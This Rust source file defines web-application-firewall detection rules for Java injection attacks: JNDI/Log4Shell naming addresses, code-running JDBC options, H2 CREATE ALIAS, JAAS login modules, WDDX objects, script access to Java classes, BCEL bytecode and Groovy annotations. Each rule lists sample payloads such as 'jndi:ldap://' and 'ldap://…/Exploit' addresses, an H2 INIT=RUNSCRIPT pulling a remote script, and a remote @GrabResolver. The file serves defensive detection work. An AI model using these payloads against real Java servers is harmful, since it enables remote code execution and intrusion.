//! Rules about addresses by which a Java server is made to load objects: naming services, connections to databases with
//! options that run code, descriptions of objects in other formats. Each with its proofs.

use waf_shared::catalog::Leaf;

use crate::field::Places;
use crate::rule::{Rule, RuleMatcher, STRONG};

/// The rules of this file.
pub(super) static RULES: &[&Rule] = &[
    &ADDRESS,
    &DIRECTORY_OBJECT,
    &CONNECTION,
    &ALIAS,
    &LOGIN_MODULE,
    &PACKET,
    &SCRIPT_PACKAGE,
    &BYTECODE,
    &ANNOTATION,
];

static ADDRESS: Rule = Rule {
    id: "java-injection-log4shell/naming-address",
    leaf: Leaf::JavaInjectionLog4shell,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: concat!(
            r#"(?:^|["'=(>])\s*(?:(?:rmi|iiop|iiopname)://[\w.\[-]|corba(?:name|loc):(?:iiop|rir)?[:\w]|jndi:(?:ldaps?|rmi|dns|iiop)[:/])"#,
            r"|/jndi/(?:ldaps?|iiop|corbaname)[:/]",
        ),
        literals: &["rmi://", "iiop", "corbaname:", "corbaloc:", "jndi:", "/jndi/"],
    },
    summary: "An address of a naming service that hands out objects of Java.",
    attacks: &[
        "rmi://203.0.113.9:1099/obj",
        "{\"dataSource\":\"iiop://h.example:1050/a\"}",
        "corbaname:iiop:h.example#a",
        "service:jmx:rmi:///jndi/ldap://h.example:1389/a",
        "jndi:ldap://h.example/a",
    ],
    benign: &[
        "the registry listens at rmi://localhost:1099",
        "service:jmx:rmi:///jndi/rmi://app:9010/jmxrmi",
        "corba and rmi",
        "jndi:comp",
        "java:comp/env/jdbc/shop",
    ],
};

static DIRECTORY_OBJECT: Rule = Rule {
    id: "java-injection-log4shell/directory-object",
    leaf: Leaf::JavaInjectionLog4shell,
    weight: STRONG,
    places: Places::REQUEST,
    // A path of a directory is a distinguished name, which has `=`; an object that a naming service hands out has none.
    matcher: RuleMatcher::Pattern {
        regex: r#"(?:^|["'=(>])\s*ldaps?://[a-z0-9.\[\]:_-]{1,253}/[a-z0-9_#.$-]{1,64}(?:/[a-z0-9_.$-]{1,64})*/?(?:$|["'<>\s,;)&\\}])"#,
        literals: &["ldap://", "ldaps://"],
    },
    summary: "An address of a directory whose path is not a distinguished name, as exploits of naming services use it.",
    attacks: &[
        "ldap://203.0.113.9:1389/Exploit",
        "{\"jndiName\":\"ldap://h.example/a\"}",
        "ldaps://h.example:636/Basic/Command/x",
        "<string>ldap://h.example/o</string>",
    ],
    benign: &[
        "ldap://ldap.example.com:389",
        "ldap://ldap.example.com/dc=example,dc=com",
        "ldap://ldap.example.com/",
        "ldap://a.example/ou=x,dc=y?uid?sub",
    ],
};

static CONNECTION: Rule = Rule {
    id: "java-injection-class-and-method-names/connection-option",
    leaf: Leaf::JavaInjectionClassAndMethodNames,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: concat!(
            r"jdbc:(?:h2:[^\r\n]{0,400}?[;\s]\\?init\s*=[^\r\n]{0,200}?(?:runscript|create\s+(?:alias|trigger|force)|\bcall\s|\$\$)",
            r"|[a-z0-9]+:[^\r\n]{0,400}?[?&;:,(](?:autodeserialize\s*=\s*(?:true|yes|1|on)|(?:query|statement|connectionlifecycle|exception)interceptors\s*=\s*com\.mysql|allow(?:load|url)[a-z]*infile\s*=\s*(?:true|yes|1)|allowurlinlocalinfile\s*=|socketfactoryarg\s*=|sslfactoryarg\s*=|loggerfile\s*=|clientrerouteserverlistjndiname\s*=|slavehost\s*=|startmaster\s*=|krb5jaas\w*\s*=|jaasapplicationname\s*=)",
            r"|sqlite::resource:|modeshape:|jcr:jndi|teradata://[^\r\n]{0,400}?browser\s*=)",
        ),
        literals: &["jdbc:"],
    },
    summary: "A connection to a database with an option that runs statements, loads classes or reads files.",
    attacks: &[
        "jdbc:h2:mem:testdb;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://203.0.113.5/a.sql'",
        "jdbc:mysql://h:3306/a?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.X",
        "jdbc:postgresql://h/a?socketFactory=b&socketFactoryArg=http://203.0.113.5/a.xml",
        "jdbc:db2://h:50000/a:clientRerouteServerListJNDIName=b;",
        "jdbc:sqlite::resource:http://203.0.113.5/a.db",
        "jdbc:derby:db;startMaster=true;slaveHost=h",
    ],
    benign: &[
        "jdbc:postgresql://db.internal:5432/shop?sslmode=require",
        "jdbc:h2:mem:testdb;DB_CLOSE_DELAY=-1;INIT=CREATE SCHEMA IF NOT EXISTS shop",
        "jdbc:mysql://db:3306/app?useSSL=false&serverTimezone=UTC",
        "jdbc:postgresql:///a?socketFactory=com.google.cloud.sql.postgres.SocketFactory",
    ],
};

static ALIAS: Rule = Rule {
    id: "java-injection-struts2-runtime-exec/database-alias",
    leaf: Leaf::JavaInjectionStruts2RuntimeExec,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r#"\bcreate\s+(?:force\s+)?(?:alias|trigger)\s+(?:if\s+not\s+exists\s+)?["\w.]{1,64}\s+(?:(?:before|after)\s[^'"$]{1,128}\s)?(?:as\s*(?:'|\$\$)|(?:for|call)\s*["'](?:java|javax|org|com)\.)"#,
        literals: &["alias", "trigger"],
    },
    summary: "A statement of H2 that makes a function of Java source or of a class.",
    attacks: &[
        "CREATE ALIAS RUN AS 'void run(String c) throws Exception {x(c);}'",
        "create alias if not exists nap for \"java.lang.Thread.sleep\"",
        "CREATE ALIAS A AS $$ String a() { return \"\"; } $$",
        "CREATE TRIGGER t BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript",
    ],
    benign: &[
        "CREATE ALIAS is how you register Java functions",
        "create alias for my mailbox as soon as possible",
        "CREATE TRIGGER t AFTER INSERT ON a FOR EACH ROW EXECUTE FUNCTION f()",
    ],
};

static LOGIN_MODULE: Rule = Rule {
    id: "java-injection-class-and-method-names/login-module",
    leaf: Leaf::JavaInjectionClassAndMethodNames,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r"\b(?:jndi|ldap|keystore|nt|unix)loginmodule\s+(?:required|requisite|sufficient|optional)\b",
        literals: &["loginmodule"],
    },
    summary: "A login module of Java's platform that asks a naming service or opens files.",
    attacks: &[
        "com.sun.security.auth.module.JndiLoginModule required user.provider.url=\"ldap://h/a\";",
        "{\"sasl.jaas.config\":\"com.sun.security.auth.module.LdapLoginModule required;\"}",
        "a.KeyStoreLoginModule optional keyStoreURL=\"http://203.0.113.5/\"",
    ],
    benign: &[
        "org.apache.kafka.common.security.plain.PlainLoginModule required username=\"a\";",
        "ScramLoginModule required",
        "the JndiLoginModule class",
    ],
};

static PACKET: Rule = Rule {
    id: "java-injection-serialized-objects/wddx",
    leaf: Leaf::JavaInjectionSerializedObjects,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r#"<wddxpacket\b[\s\S]{0,4000}?<struct\s[^>]{0,100}\btype\s*=\s*["'][^"'>]{0,8}?[a-z]\w*[./]\w"#,
        literals: &["<wddxpacket"],
    },
    summary: "A WDDX packet whose structure is an object of a Java class.",
    attacks: &[
        "<wddxPacket version='1.0'><header/><data><struct type='xcom.sun.rowset.JdbcRowSetImplx'/></data></wddxPacket>",
        "<wddxPacket version=\"1.0\"><data><struct type=\"Lcoldfusion.tagext.lang.ImportTag;\"></struct></data></wddxPacket>",
        "<wddxPacket><header/><data><array length='1'><struct type='xorg/x.Ax'/></array></data></wddxPacket>",
    ],
    benign: &[
        "<wddxPacket version='1.0'><header/><data><struct><var name='a'/></struct></data></wddxPacket>",
        "<wddxPacket version='1.0'><header/><data><struct type='Query'/></data></wddxPacket>",
        "<struct type='a.b.C'/>",
    ],
};

static SCRIPT_PACKAGE: Rule = Rule {
    id: "java-injection-class-and-method-names/script-package",
    leaf: Leaf::JavaInjectionClassAndMethodNames,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r#"\bpackages\.(?:java|javax|com|org|sun)\.\w|\bjava\.type\s*\(\s*\\?["']|\b(?:importclass|importpackage)\s*\(\s*(?:packages|java|javax|org|com)\."#,
        literals: &["packages.", "java.type", "importclass", "importpackage"],
    },
    summary: "A script of Rhino or Nashorn reaches a class of Java.",
    attacks: &[
        "var r = Packages.java.lang.Runtime",
        "Java.type(\"java.lang.Runtime\").getRuntime()",
        "importPackage(java.util)",
        "importClass(Packages.java.io.File)",
    ],
    benign: &["packages.json", "packages.shop", "java.types", "importpackage", "import packages.java"],
};

static BYTECODE: Rule = Rule {
    id: "java-injection-serialized-objects/bytecode-name",
    leaf: Leaf::JavaInjectionSerializedObjects,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r"\$\$bcel\$\$\$[a-z]\$|(?-i)(?:^|[^A-Za-z0-9+/_-])yv66vgAAAD[A-Z]",
        literals: &["$$bcel$$", "yv66vgaaad"],
    },
    summary: "A class of Java as the name that a loader makes it of, or as bytes in base64.",
    attacks: &["$$BCEL$$$l$8b$I$A$A$A$A$A$A", "{\"driver\":\"$$BCEL$$$l$8b\"}", "x=yv66vgAAADQAPwoACgAf"],
    benign: &["$$BCEL", "the yv66 format", "bcel$"],
};

static ANNOTATION: Rule = Rule {
    id: "java-injection-struts2-runtime-exec/groovy-annotation",
    leaf: Leaf::JavaInjectionStruts2RuntimeExec,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r"@(?:grabresolver|grabconfig|(?:groovy\.transform\.)?asttest)\s*\(",
        literals: &["@grabresolver", "@grabconfig", "asttest"],
    },
    summary: "An annotation of Groovy that loads or runs code while a script is compiled.",
    attacks: &[
        "@GrabResolver(name='a', root='http://203.0.113.5/')",
        "@ASTTest(value={assert 1}) class A {}",
        "@GrabConfig(disableChecksums=true)@Grab(group='a',module='b',version='1')",
    ],
    benign: &["@Grab('org.jsoup:jsoup:1.17.2')", "grabconfig", "@Test(timeout = 5)"],
};
